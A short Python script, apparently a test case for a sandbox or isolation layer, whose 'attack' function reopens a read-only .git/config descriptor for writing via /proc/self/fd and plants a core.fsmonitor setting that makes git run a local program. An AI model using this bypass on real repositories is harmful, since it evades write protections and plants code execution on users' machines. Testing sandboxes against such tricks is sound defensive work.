# Opened again for writing, by its descriptor.
import os

from inside import run


def attack(target):
    fd = os.open(f"{target.work}/.git/config", os.O_RDONLY)
    with open(f"/proc/self/fd/{fd}", "w") as file:
        file.write("[core]\nfsmonitor = ./program\n")


run(attack)
